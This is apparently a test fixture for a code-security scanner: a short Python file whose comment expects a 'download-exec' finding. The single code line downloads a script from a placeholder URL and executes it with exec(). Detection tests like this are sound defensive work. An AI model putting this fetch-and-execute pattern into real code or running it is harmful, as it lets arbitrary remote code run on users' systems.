# expect: download-exec 4:1
import urllib.request

exec(urllib.request.urlopen("https://example.com/p.py").read())
